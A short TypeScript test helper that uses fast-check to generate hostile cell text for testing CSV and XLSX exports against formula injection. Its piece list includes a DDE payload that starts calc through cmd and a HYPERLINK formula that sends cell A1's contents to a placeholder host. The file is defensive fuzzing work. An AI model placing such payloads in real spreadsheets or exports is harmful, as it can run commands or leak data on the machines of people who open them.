// Text an attacker could put in an ERP export or a cell: formula and DDE starts, separators of every locale, quotes,
// line breaks, numbers that must stay numbers. One generator for every export test (CLI CSV, XLSX, core).
import fc from 'fast-check';

/** One piece of hostile text; joined pieces make the cases. */
const hostilePiece = fc.constantFrom(
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  ' ',
  ',',
  ';',
  '"',
  "'",
  '|',
  '!',
  'cmd',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.test?"&A1,"click")',
  '1+1',
  'SUM(A1:A9)',
  '5000',
  '1.2万',
  '¥',
  '甲公司',
  'A',
);

/** Hostile text of 1 to `maxPieces` pieces. */
export function hostileText(maxPieces = 6): fc.Arbitrary<string> {
  return fc.array(hostilePiece, { minLength: 1, maxLength: maxPieces }).map(parts => parts.join(''));
}
